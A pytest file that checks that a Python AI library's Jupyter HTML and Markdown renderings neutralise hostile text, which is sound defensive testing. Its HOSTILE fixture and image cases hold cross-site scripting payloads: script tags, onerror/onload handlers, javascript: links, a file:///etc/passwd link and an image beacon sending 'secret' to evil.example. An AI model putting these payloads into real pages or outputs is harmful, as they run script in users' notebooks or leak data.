"""Test what Jupyter shows: HTML and Markdown in which nothing of a model's text is active."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Callable
from types import ModuleType
from typing import Any

import pytest
from markdown_it import MarkdownIt

from pipy_ai import (
    AssistantMessage,
    Context,
    ErrorKind,
    ImageContent,
    Model,
    ModelList,
    ToolResultMessage,
    UserMessage,
    arun_tools,
    assistant,
    astream,
    budget,
    complete,
    ctx,
    faux,
    get_models,
    run_tools,
    stream,
    tool_result,
    user,
)
from pipy_ai.notebook import in_notebook, render_text, safe_markdown
from pipy_ai.types import DocumentContent, ThinkingContent, ToolCall

HOSTILE = """# Hi <script>alert(1)</script>

<img src=https://evil.example/a.png onerror=alert(1)> <b onclick="x()">bold</b> <!-- -->

![pixel](https://evil.example/b.png?q=secret) ![ref][1] ![data](data:image/svg+xml;base64,AAAA)
[click](javascript:alert(1)) [file](file:///etc/passwd) [here](evil.ipynb) [root](/tree)
[data](data:image/png;base64,AAAA) $5 and $\\href{javascript:alert(1)}{x}$ [ok](https://example.com/?a=1&b=2)
<https://evil.example/auto> &lt;script&gt; `<code>` and `![x](y)`

<iframe src="https://evil.example"></iframe>

```html
<script>alert("in code")</script> ![x](https://evil.example/c.png)
```
- list
      <svg onload=alert(1)>

[1]: https://evil.example/d.png
"""
ALLOWED_TAGS = {
    "div", "p", "b", "br", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "code", "pre",
    "ul", "ol", "li", "a", "blockquote", "hr", "table", "thead", "tbody", "tr", "th", "td",
    "details", "summary", "progress", "img",
}  # fmt: skip


# MathJax reads no formulas in it, which could contain links and styles: "$5 and $6" are prices.
NO_FORMULAS = '<div class="mathjax_ignore tex2jax_ignore">'


def check_html(html: str) -> None:
    """Fail if HTML has an active or remote element, or a tag that is not closed."""
    from html.parser import HTMLParser

    opened: list[str] = []

    class Checker(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            assert tag in ALLOWED_TAGS, tag
            for name, value in attrs:
                assert not name.startswith("on"), (tag, name)
                assert name in {
                    "href",
                    "rel",
                    "style",
                    "alt",
                    "src",
                    "value",
                    "max",
                    "start",
                    "class",
                    "title",
                }
                if name == "src":
                    assert (value or "").startswith("data:image/png;base64,")
                if name == "href":
                    assert re.match(r"https?://|mailto:", value or "")
                if name == "style":
                    assert "url(" not in (value or "")
            if tag not in ("br", "hr", "img"):
                opened.append(tag)

        def handle_endtag(self, tag: str) -> None:
            assert opened.pop() == tag

    checker = Checker()
    checker.feed(html)
    checker.close()
    assert opened == []


def check_markdown(text: str) -> None:
    """Fail if Markdown has HTML or an image."""
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    kinds = {t.type for token in tokens for t in (token, *(token.children or ()))}
    assert not kinds & {"html_block", "html_inline", "image"}, text


def hostile_run() -> Any:
    def look(place: str) -> str:
        "Look."
        return HOSTILE

    call = faux.tool("look", place=HOSTILE)
    with faux.script(faux.reply(HOSTILE, call), HOSTILE):
        run = run_tools("faux/any", HOSTILE, [look])
        run.result()
    return run


def hostile_budget() -> Any:
    with budget(tokens=10**9) as limit, faux.script("Hi"):
        complete("faux/<b>|![x](https://evil.example)", "Hi")
    return limit


def failed() -> AssistantMessage:
    with faux.script(faux.reply("Half ", faux.error("bad_request", HOSTILE))):
        return complete("faux/<script>", "Hi")


def everything() -> AssistantMessage:
    call = ToolCall(id="1", name="<b>", arguments={"<i>": HOSTILE}, arguments_error="<u>")
    thinking = [ThinkingContent(thinking=HOSTILE), ThinkingContent(redacted=True)]
    return assistant(*thinking, HOSTILE, call)


IMAGE = ImageContent(data="QUJD", mime_type="image/png")
IMAGES = [
    IMAGE,
    ImageContent(url="https://evil.example/<b>.png"),
    ImageContent(data='x" onload="alert(1)', mime_type="image/png"),
    ImageContent(data="QUJD", mime_type='image/png" onload="x'),
    ImageContent(data="QUJD", mime_type="image/svg+xml"),
    DocumentContent(url="https://evil.example", name="<b>"),
]

SHOWN: dict[str, Callable[[], Any]] = {
    "answer": lambda: assistant(HOSTILE),
    "everything": everything,
    "failed": failed,
    "empty": lambda: assistant(""),
    "user": lambda: user(HOSTILE),
    "images": lambda: user(HOSTILE, *IMAGES),
    "result": lambda: tool_result(ToolCall(id="1", name="<b>"), HOSTILE),
    "result image": lambda: ToolResultMessage(tool_name=HOSTILE, content=[IMAGE]),
    "context": lambda: ctx(user(HOSTILE), everything(), system=HOSTILE, tools=[{"name": "t"}]),
    "empty context": Context,
    "long context": lambda: ctx(*[user(HOSTILE)] * 300),
    "run": hostile_run,
    "unstarted run": lambda: run_tools("faux/any", "Hi", []),
    "async run": lambda: arun_tools("faux/any", "Hi", []),
    "budget": hostile_budget,
    "budget in dollars": lambda: budget(usd=1),
    "no limit": budget,
    "models": lambda: get_models()[:200],
    "hostile models": lambda: ModelList([Model(id=HOSTILE, provider="<b>", status="|<i>")]),
    "no models": ModelList,
}


@pytest.mark.parametrize("create", SHOWN.values(), ids=SHOWN)
def test_nothing_shown_is_active(create: Callable[[], Any]) -> None:
    value = create()
    html = value._repr_html_()
    check_html(html)
    assert html.startswith(NO_FORMULAS)
    check_markdown(value._repr_markdown_())
    assert repr(value)


def test_text_in_any_place_is_not_active() -> None:
    """A piece of the hostile text at a time, as its parts may hide each other."""
    for line in HOSTILE.splitlines():
        check_html(render_text(line))
        check_markdown(safe_markdown(line))


def test_html_renders_markdown_and_facts() -> None:
    message = complete("faux/echo", "**Hello** `x` | a\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    html = message._repr_html_()
    assert "<strong>Hello</strong> <code>x</code>" in html
    assert "<td>1</td>" in html
    assert "faux/echo · " in html
    assert "unknown cost" in html


def test_html_shows_the_error() -> None:
    html = complete("anthropic/claude-sonnet-4-5", "Hi")._repr_html_()
    assert "missing_key: " in html
    assert "ANTHROPIC_API_KEY" in html


def test_html_shows_images_that_are_in_the_message() -> None:
    html = user("Look", IMAGE)._repr_html_()
    assert '<img style="max-width:100%" alt="" src="data:image/png;base64,QUJD">' in html


def test_markdown_of_a_harmless_answer_is_its_text() -> None:
    text = "**Hi** `a < b`\n\n```rust\nvec![1] < 2\n```\n\n$x$ & more"
    assert assistant(text)._repr_markdown_() == text


def test_markdown_keeps_code_beside_html() -> None:
    text = "<b>x</b> `<i>`\n\n```rust\nvec![1] < <u>2</u>\n```\n![a](https://evil.example)"
    shown = assistant(text)._repr_markdown_()
    assert "```rust\nvec![1] < <u>2</u>\n```" in shown
    assert "`<i>`" in shown
    assert "&lt;b>x&lt;/b>" in shown
    check_markdown(shown)


@pytest.mark.parametrize(
    "text",
    [
        "x" * 10_000_000, "[" * 5_000, "> " * 5_000 + "x", "`" * 30_001, "*a " * 5_000,
        "<" * 5_000, "- " * 5_000 + "x", "![" * 5_000, "\x1b[2J\x00\x85\u2028",
    ],
    ids=["long", "[", ">", "`", "*", "<", "-", "![", "controls"],
)  # fmt: skip
def test_any_text_is_shown(text: str) -> None:
    message = assistant(text)
    check_html(message._repr_html_())
    message._repr_markdown_()


# --- Streams outside a notebook -----------------------------------------------------------


def test_display_prints_the_answer_as_it_arrives(capsys: pytest.CaptureFixture[str]) -> None:
    events = stream("faux/echo", "Hello **you**")
    events.display()
    assert capsys.readouterr().out == "Hello **you**\n"
    assert events.result().text == "Hello **you**"
    events.display()  # its events were consumed
    assert capsys.readouterr().out == "Hello **you**\n"


async def test_async_display_prints_the_answer(capsys: pytest.CaptureFixture[str]) -> None:
    await astream("faux/echo", "Hello").display()
    assert capsys.readouterr().out == "Hello\n"


def test_display_prints_the_error_and_escapes_controls(capsys: pytest.CaptureFixture[str]) -> None:
    with faux.script(faux.reply("Half\x1b[2J", faux.error("bad_request", "No\x1b."))):
        stream("faux/any", "Hi").display()
    out = capsys.readouterr().out
    assert out.startswith("Half\\x1b[2J\nError: bad_request: ")
    assert "\x1b" not in out


def test_display_of_a_run_prints_calls_and_results(capsys: pytest.CaptureFixture[str]) -> None:
    def add(a: int, b: int) -> int:
        "Add."
        return a + b

    with faux.script(faux.reply(faux.tool("add", a=2, b=3)), "It is 5."):
        run = run_tools("faux/any", "2 + 3?", [add])
        run.display()
    assert capsys.readouterr().out == "\n\nadd(a=2, b=3) → 5\nIt is 5.\n"
    assert run.result().text == "It is 5."


async def test_async_display_of_a_run(capsys: pytest.CaptureFixture[str]) -> None:
    with faux.script("It is 5."):
        await arun_tools("faux/any", "2 + 3?", []).display()
    assert capsys.readouterr().out == "It is 5.\n"


# --- In a notebook ------------------------------------------------------------------------

CELLS = {
    "answer": "import warnings; from pipy_ai import *; complete('faux/echo', '**Hello** <b>')",
    "error": "complete('anthropic/claude-sonnet-4-5', 'Hi')",
    "context": "ctx('Hi', system='Be brief.')",
    "stream": "with faux.script('One **two** three ' * 9, delay=0.01):\n"
    "    events = stream('faux/any', 'Hi')\nevents",
    "async": "await astream('faux/echo', 'Hello **async**').display()",
    "run": "with faux.script('It is 5.'):\n    run = run_tools('faux/any', 'Hi', [])\n"
    "    run.display()\nrun",
    "raising": "with faux.script(faux.reply('Half ', faux.error('bad_request', 'No.'))):\n"
    "    events = stream('faux/any', 'Hi', raise_on_error=True)\nevents",
    "budget": "with budget(tokens=100) as b:\n    complete('faux/echo', 'Hello')\nb",
    "models": "get_models(provider='anthropic')",
    "many": "with faux.script(*['x'] * 40, delay=0.1):\n"
    "    answers = complete_many('faux/any', ['?'] * 40, concurrency=4)\nanswers[:2]",
    "quiet": "len(complete_many('faux/echo', ['?'] * 5, progress=False))",
    "cost": "print(Usage().cost); f'{Usage().cost:.4f}'",
    "print": "print(complete('faux/echo', 'Hello'))",
    "interrupted": "from pipy_ai.notebook import EventPrinter\n"
    "try:\n"
    "    with EventPrinter() as printer:\n"
    "        for event in stream('faux/echo', 'All **that** came'):\n"
    "            if event.type == 'text_end':\n                raise KeyboardInterrupt\n"
    "            printer.show(event)\n"
    "except KeyboardInterrupt:\n    print('interrupted')",
}


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Any]]:
    """Run a notebook with every kind of display; return the outputs of each cell."""
    nbformat = pytest.importorskip("nbformat")
    nbclient = pytest.importorskip("nbclient")
    pytest.importorskip("ipykernel")
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_code_cell(code) for code in CELLS.values()]
    home = tmp_path_factory.mktemp("home")
    environment = {**os.environ, "IPYTHONDIR": str(home), "JUPYTER_RUNTIME_DIR": str(home)}
    environment |= {"JUPYTER_PREFER_ENV_PATH": "1"}
    path = home / "notebook.ipynb"
    nbformat.write(notebook, path)
    # The kernel and its client talk over sockets that the tests' own process may not open.
    script = (
        "import sys, nbformat, nbclient; n = nbformat.read(sys.argv[1], 4);"
        "nbclient.NotebookClient(n, timeout=100, kernel_name='python3').execute();"
        "nbformat.write(n, sys.argv[1])"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(path)],
        env=environment, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    assert nbclient
    cells = nbformat.read(path, 4).cells
    return {name: cell.outputs for name, cell in zip(CELLS, cells, strict=True)}


def data_of(output: Any) -> dict[str, str]:
    return dict(output["data"])


@pytest.mark.parametrize("name", ["answer", "error", "context", "run", "budget", "models"])
def test_notebook_shows_html_markdown_and_text(outputs: dict[str, list[Any]], name: str) -> None:
    data = data_of(outputs[name][-1])
    assert data.keys() == {"text/plain", "text/html", "text/markdown"}
    assert len(data["text/plain"]) < 500


def test_every_html_of_the_notebook_is_harmless(outputs: dict[str, list[Any]]) -> None:
    for name in CELLS:
        for output in outputs[name]:
            html = output.get("data", {}).get("text/html", "")
            check_html(html)
            assert not html or html.startswith(NO_FORMULAS)
            assert output["output_type"] != "error"
            assert output.get("name") != "stderr"


@pytest.mark.parametrize(
    ("name", "html"),
    [
        ("stream", "<strong>two</strong>"), ("async", "<strong>async</strong>"),
        ("run", "It is 5."), ("raising", "<b>Error</b> bad_request: No."),
        ("interrupted", "All <strong>that</strong> came"),
    ],
)  # fmt: skip
def test_streams_end_as_one_rendered_output(
    outputs: dict[str, list[Any]], name: str, html: str
) -> None:
    displayed = [one for one in outputs[name] if one["output_type"] == "display_data"]
    assert len(displayed) == 1
    assert html in data_of(displayed[0])["text/html"]


def test_batch_shows_its_progress(outputs: dict[str, list[Any]]) -> None:
    progress, answers = outputs["many"]
    assert data_of(progress)["text/plain"].startswith("40/40  ")
    assert '<progress value="40" max="40">' in data_of(progress)["text/html"]
    assert data_of(answers)["text/plain"].count("AssistantMessage('x'") == 2
    assert len(outputs["quiet"]) == 1


def test_other_cells(outputs: dict[str, list[Any]]) -> None:
    assert outputs["cost"][0]["text"] == "unknown cost\n"
    assert data_of(outputs["cost"][1])["text/plain"] == "'unknown'"
    assert outputs["print"][0]["text"] == "Hello\n"


def test_lone_surrogates_can_be_sent_to_a_notebook() -> None:
    for message in (user("Hi \udc80 <b>"), tool_result("1", "\udc80"), assistant("\udc80")):
        message._repr_html_().encode()
        message._repr_markdown_().encode()
        repr(message).encode()


def test_kinds_of_errors_are_all_shown() -> None:
    for kind in ErrorKind:
        with faux.script(faux.reply(faux.error(kind.value, "No."))):
            message = complete("faux/any", "Hi", max_retries=0)
        assert f"{kind}: " in message._repr_html_()
        assert f"Error: {kind}: " in str(message)


def test_user_message_in_any_form() -> None:
    assert UserMessage(content="**Hi**")._repr_html_() == (
        '<div class="mathjax_ignore tex2jax_ignore"><p><strong>Hi</strong></p>\n</div>'
    )


def test_shells_derived_from_that_of_jupyter_are_recognized(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Colab has one."""
    shell_class = type("Shell", (type("ZMQInteractiveShell", (), {}),), {})
    module = ModuleType("IPython")
    monkeypatch.setitem(sys.modules, "IPython", module)
    for shell, expected in ((shell_class(), True), (object(), False), (None, False)):
        monkeypatch.setattr(module, "get_ipython", lambda shell=shell: shell, raising=False)
        assert in_notebook() is expected
